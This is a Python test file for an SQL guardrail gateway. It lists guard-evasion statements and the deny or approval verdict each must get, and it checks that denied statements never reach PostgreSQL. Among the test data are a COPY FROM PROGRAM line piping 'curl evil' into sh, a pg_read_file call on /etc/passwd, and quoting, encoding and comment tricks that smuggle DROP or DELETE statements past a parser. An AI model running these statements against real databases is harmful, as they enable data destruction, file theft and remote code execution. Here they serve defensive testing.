"""The evasion catalogue (issue 12, docs/gateways.md "Evasion catalogue"): statements that try to
get past the SQL guardrails, each with the verdict it must get. The class of attack: anything
that makes the gateway's reading of SQL differ from the server's is denied.

Judged by the gateway's own judge, and every statement that must be denied is also sent through
a running gateway by psycopg to a real PostgreSQL, which must not see it."""

from __future__ import annotations

import psycopg
import pytest
from tests.gateway.postgres.conftest import APP_USER, MakeGateway, Upstream

from airlock.gateway.postgres.analysis import analyse_sql
from airlock.gateway.postgres.guard import SqlGuard
from airlock.policy.guardrails import GuardrailDefaults, GuardrailRule

RULES = [
    {"id": "no-drop", "sql": {"kinds": ["drop", "truncate"]}, "action": "deny"},
    {"id": "no-unscoped", "sql": {"kinds": ["delete", "update"], "without_where": True},
     "action": "deny"},
    {"id": "victims-ok", "sql": {"kinds": ["delete", "update"], "tables": ["victims"]},
     "action": "require_approval"},
    {"id": "no-shell", "sql": {"kinds": ["copy_program", "copy_file"]}, "action": "deny"},
    {"id": "opaque", "sql": {"kinds": ["do", "call"]}, "action": "require_approval"},
    {"id": "no-files", "sql": {"functions": ["pg_read_file", "lo_import"]}, "action": "deny"},
]  # fmt: skip
GUARD = SqlGuard([GuardrailRule.model_validate(r) for r in RULES], GuardrailDefaults(), "appdb")
PARSE, DYNAMIC = "airlock.builtin.parse_state", "airlock.builtin.dynamic_sql"
UNPARSABLE, UNMATCHED = "airlock.default.sql_unparsable", "airlock.default.sql_unmatched"

CATALOGUE = [
    # settings that change how the server reads SQL (the bypass)
    ("SET standard_conforming_strings = off", "deny", PARSE),
    ("SET SESSION standard_conforming_strings TO false", "deny", PARSE),
    ("SET LOCAL standard_conforming_strings = 0", "deny", PARSE),
    ("SELECT set_config('standard_conforming_strings', 'off', true)", "deny", PARSE),
    ("SELECT pg_catalog.set_config('STANDARD_CONFORMING_STRINGS', 'off', false)", "deny", PARSE),
    ("SELECT set_config('standard_conforming' || '_strings', 'off', false)", "deny", PARSE),
    ("UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
     "deny", PARSE),
    ("ALTER ROLE CURRENT_USER SET standard_conforming_strings = off", "deny", PARSE),
    ("ALTER DATABASE app SET client_encoding = 'BIG5'", "deny", PARSE),
    ("SET client_encoding = 'sjis'", "deny", PARSE),
    ("SET NAMES 'GBK'", "deny", PARSE),
    ("SET backslash_quote = on", "deny", PARSE),
    ("SET standard_conforming_strings = on", "allow", UNMATCHED),
    ("SET client_encoding = 'UTF8'", "allow", UNMATCHED),
    # quoting tricks: read as the server reads them with the settings above kept
    ("SELECT 'x\\''; DELETE FROM victims; --'", "allow", UNMATCHED),  # one string literal
    ("SELECT E'x\\''; DELETE FROM victims; --'", "deny", "no-unscoped"),
    ("SELECT U&'\\0027'; DELETE FROM victims", "deny", "no-unscoped"),
    ('DROP TABLE U&"\\0076ictims"', "deny", "no-drop"),
    ("SELECT $t$ '; DROP TABLE victims; -- $t$", "allow", UNMATCHED),
    ("SELECT $a$ $b$ $a$; DROP TABLE victims", "deny", "no-drop"),
    # comments
    ("DELETE /* WHERE id = 1 */ FROM victims", "deny", "no-unscoped"),
    ("DELETE FROM victims -- WHERE id = 1", "deny", "no-unscoped"),
    ("/* /* nested */ DROP TABLE victims; */ SELECT 1", "allow", UNMATCHED),
    # conditions that hold for every row
    ("DELETE FROM victims WHERE true", "deny", "no-unscoped"),
    ("DELETE FROM victims WHERE 1 = 1", "deny", "no-unscoped"),
    ("DELETE FROM victims WHERE id = id", "deny", "no-unscoped"),
    ("DELETE FROM victims WHERE id = 1 OR true", "deny", "no-unscoped"),
    ("DELETE FROM victims WHERE id = 1 OR 'a' = 'a'", "deny", "no-unscoped"),
    ("UPDATE victims SET id = id WHERE NOT false AND 't'::boolean", "deny", "no-unscoped"),
    ("DELETE FROM victims WHERE id = 1 OR 1 = 2", "require_approval", "victims-ok"),
    ("DELETE FROM victims WHERE id > 0", "require_approval", "victims-ok"),  # out of reach
    # CTEs and EXPLAIN
    ("WITH x AS (DELETE FROM victims RETURNING *) SELECT * FROM x", "deny", "no-unscoped"),
    ("EXPLAIN ANALYZE DELETE FROM victims", "deny", "no-unscoped"),
    # rules, functions, triggers: their bodies count
    ("CREATE RULE r AS ON INSERT TO log DO ALSO DELETE FROM victims", "deny", "no-unscoped"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM victims'", "deny",
     "no-unscoped"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM victims; SELECT 1; "
     "END", "deny", "no-unscoped"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE victims; END $$",
     "deny", "no-drop"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || "
     "'victims'; END $$", "deny", DYNAMIC),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SET standard_conforming_strings = off "
     "AS $$ BEGIN END $$", "deny", PARSE),
    ("CREATE TRIGGER t BEFORE INSERT ON log FOR EACH ROW EXECUTE FUNCTION f()", "allow",
     UNMATCHED),
    # DO blocks and procedures
    ("DO $$ BEGIN DELETE FROM victims; END $$", "deny", "no-unscoped"),
    ("DO $$ BEGIN EXECUTE 'DELETE FROM victims WHERE id = 1'; END $$", "deny", DYNAMIC),
    ("DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$", "deny",
     DYNAMIC),
    ("DO $$ BEGIN PERFORM set_config('standard_conforming_strings', 'off', false); END $$",
     "deny", PARSE),
    ("DO $$ BEGIN NULL; END $$", "require_approval", "opaque"),
    ("DO LANGUAGE plpython3u $$ plpy.execute('DELETE FROM victims') $$", "require_approval",
     "opaque"),
    ("CALL purge()", "require_approval", "opaque"),
    # prepared statements: EXECUTE is judged as what it runs
    ("PREPARE p AS DELETE FROM victims", "deny", "no-unscoped"),
    ("EXECUTE never_prepared", "deny", UNPARSABLE),
    ("PREPARE q AS SELECT 1; EXECUTE q", "deny", UNPARSABLE),  # same string: not known yet
    # COPY
    ("COPY victims FROM PROGRAM 'curl evil | sh'", "deny", "no-shell"),
    ("COPY victims TO '/tmp/x'", "deny", "no-shell"),
    ("COPY (DELETE FROM victims RETURNING *) TO STDOUT", "deny", "no-unscoped"),
    ("COPY victims TO STDOUT", "allow", UNMATCHED),
    # MERGE and its actions
    ("MERGE INTO victims v USING src s ON v.id = s.id WHEN MATCHED THEN DELETE",
     "require_approval", "victims-ok"),
    ("MERGE INTO victims v USING src s ON true WHEN MATCHED THEN UPDATE SET id = 1", "deny",
     "no-unscoped"),
    ("MERGE INTO victims v USING src s ON 1 = 1 WHEN MATCHED THEN DELETE", "deny",
     "no-unscoped"),
    ("MERGE INTO victims v USING src s ON v.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (1)",
     "allow", UNMATCHED),
    # functions, multi-statement strings, unparsable text
    ("SELECT * FROM pg_read_file('/etc/passwd')", "deny", "no-files"),
    ("SELECT 1; DROP TABLE victims", "deny", "no-drop"),
    ("DELETE FROM victims WHERE", "deny", UNPARSABLE),
]  # fmt: skip


@pytest.mark.parametrize(
    ("sql", "action", "rule_id"), CATALOGUE, ids=[c[0][:50] for c in CATALOGUE]
)
def test_catalogue(sql: str, action: str, rule_id: str) -> None:
    final = GUARD.verdict(sql).final
    assert (final.action, final.rule_id) == (action, rule_id)


def test_catalogue_is_large_enough() -> None:
    assert len(CATALOGUE) >= 40


def test_execute_of_a_known_prepared_statement_is_judged_as_it() -> None:
    prepared = {"p": analyse_sql("PREPARE p AS DELETE FROM victims WHERE id = $1")[0]}
    final = GUARD.verdict("EXECUTE p(1)", prepared).final
    assert (final.action, final.rule_id) == ("require_approval", "victims-ok")


@pytest.mark.service
def test_every_denied_statement_is_refused_by_a_running_gateway(
    make_gateway: MakeGateway, upstream: Upstream
) -> None:
    with upstream.superuser() as conn:
        conn.execute("CREATE TABLE IF NOT EXISTS victims AS SELECT i AS id FROM "
                     "generate_series(1, 10) i")  # fmt: skip
        conn.execute(f"ALTER TABLE victims OWNER TO {APP_USER}")
    gw = make_gateway(rules=RULES)
    seen_before = len(upstream.cluster.server_log())
    denied = [sql for sql, action, _ in CATALOGUE if action == "deny"]
    refused = []
    with psycopg.connect(gw.dsn(), autocommit=True) as conn:
        for sql in denied:
            try:
                conn.execute(sql.encode(), prepare=False)
            except psycopg.errors.InsufficientPrivilege:
                refused.append(sql)
    assert refused == denied
    server_saw = upstream.cluster.server_log()[seen_before:]
    assert "victims" not in server_saw  # not one of them reached the server
    with upstream.superuser() as conn:
        assert conn.execute("SELECT count(*) FROM victims").fetchone() == (10,)
        conn.execute("DROP TABLE victims")
